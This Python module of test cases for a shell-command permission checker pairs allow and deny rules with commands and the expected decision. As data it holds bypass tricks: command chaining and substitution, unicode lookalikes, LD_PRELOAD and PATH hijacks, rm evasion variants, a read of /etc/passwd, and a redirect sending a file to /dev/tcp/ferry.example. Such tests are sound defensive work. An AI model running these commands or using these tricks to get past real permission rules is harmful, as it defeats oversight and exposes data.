"""Shell commands that rules allow, do not cover, or deny.

Each has the active rules, the proposed command, and the decision: `allow` without an approval,
`ask`, or `deny`. All of them are data; nothing here is ever executed.
"""

from typing import Any


def _cases() -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    for expect, kind, allow, deny, commands in _TABLE:
        for command in commands:
            found.append(
                {
                    "id": f"{kind}-{len(found):03}",
                    "expect": expect,
                    "class": kind,
                    "allow_rules": allow,
                    "deny_rules": deny,
                    "command": command,
                }
            )
    return found


_TABLE: tuple[tuple[str, str, list[str], list[str], tuple[str, ...]], ...] = (
    (
        "allow",
        "plain",
        ["ls*", "pytest*", "git log*"],
        [],
        (
            "ls",
            "ls -la docs",
            "pytest tests/harbour -k 'not tide'",
            'pytest "tests/high water.py"',
            "git log --oneline -n 3",
        ),
    ),
    ("allow", "looks-bad", ["echo*"], ["rm*"], ("echo rm", "echo 'rm -rf /; sudo reboot'")),
    (
        "ask",
        "operator",
        ["ls*"],
        [],
        (
            "ls; touch sunk",
            "ls && touch sunk",
            "ls || touch sunk",
            "ls & touch sunk",
            "ls | tee sunk",
            "ls |& tee sunk",
            "ls\ntouch sunk",
            "ls;touch sunk",
            "(ls; touch sunk)",
            "{ ls; }",
            "! ls",
        ),
    ),
    (
        "ask",
        "substitution",
        ["echo*"],
        [],
        (
            "echo $(touch sunk)",
            "echo `touch sunk`",
            'echo "$(touch sunk)"',
            'echo "`touch sunk`"',
            "echo $HOME",
            "echo ${PATH:0:1}",
            "echo $((1 + 1))",
            "echo <(touch sunk)",
            "echo $'\\x24(touch sunk)'",
            'echo $"tide"',
        ),
    ),
    (
        "ask",
        "redirect-write",
        ["cat*"],
        [],
        (
            "cat tide.txt > sunk",
            "cat tide.txt >> sunk",
            "cat tide.txt >| sunk",
            "cat < /etc/passwd",
            "cat <<< tide",
            "cat << EOF\ntide\nEOF",
            "cat tide.txt 2> sunk",
            "cat tide.txt &> /dev/tcp/ferry.example/80",
        ),
    ),
    (
        "ask",
        "wrapper",
        ["make test*", "npm test*"],
        [],
        (
            "env make test",
            "nice -n 5 make test",
            "sudo make test",
            "xargs make test",
            "bash -c 'make test'",
            "command make test",
            "exec make test",
            "eval make test",
        ),
    ),
    (
        "ask",
        "env-prefix",
        ["git status*"],
        [],
        (
            "GIT_DIR=/tmp/other git status",
            "PATH=.:$PATH git status",
            "LD_PRELOAD=./tide.so git status",
            "A=1 B=2 git status",
        ),
    ),
    (
        "ask",
        "token-boundary",
        ["ls*", "git status*"],
        [],
        ("lsof", "git statuses", "git stat", "gitstatus", "lsattr -R /"),
    ),
    (
        "ask",
        "shadowing",
        ["ls*"],
        [],
        ("./ls", "/bin/ls", "../ls", "bin/ls", "~/ls", "alias ls=rm"),
    ),
    (
        "ask",
        "unicode",
        ["ls*", "cat*"],
        [],
        (
            "\u04cfs",
            "l\u200bs",
            "ls\u00a0-l",
            "ls \u2014l",
            "\uff4c\uff53",
            "cat tide\u202etxt.exe",
            "ls\x00",
            "ls\x1b[2K",
        ),
    ),
    ("ask", "hiding", ["ls*"], [], ("ls\r\ntouch sunk", "ls\ntouch sunk", "ls # a \\\ntouch sunk")),
    ("allow", "lines", ["ls*"], [], ("ls # touch sunk", "ls \\\ntouch sunk", "# a\nls\n\nls")),
    ("ask", "malformed", ["ls*"], [], ("", " ", "ls 'tide", 'ls "tide', "ls \\", "ls (", "ls )")),
    ("ask", "expansion", ["ls*"], [], ("ls *", "ls ?ide", "ls [a-z]", "ls {a,b}", "ls ~sailor")),
    (
        "deny",
        "deny-rule",
        ["ls*", "echo*"],
        ["rm*"],
        (
            "rm tide.txt",
            "rm",
            "ls; rm tide.txt",
            "ls && rm -rf harbour",
            "ls | rm tide.txt",
            "echo $(rm tide.txt)",
            "echo `rm tide.txt`",
            "(rm tide.txt)",
            "ls\nrm tide.txt",
            "'rm' tide.txt",
            '"rm" tide.txt',
            "r\\m tide.txt",
            "/bin/rm tide.txt",
            "env rm tide.txt",
            "sudo rm tide.txt",
            "bash -c 'rm tide.txt'",
            "timeout 5 rm tide.txt",
            "true || rm tide.txt",
        ),
    ),
)
COMMANDS = _cases()
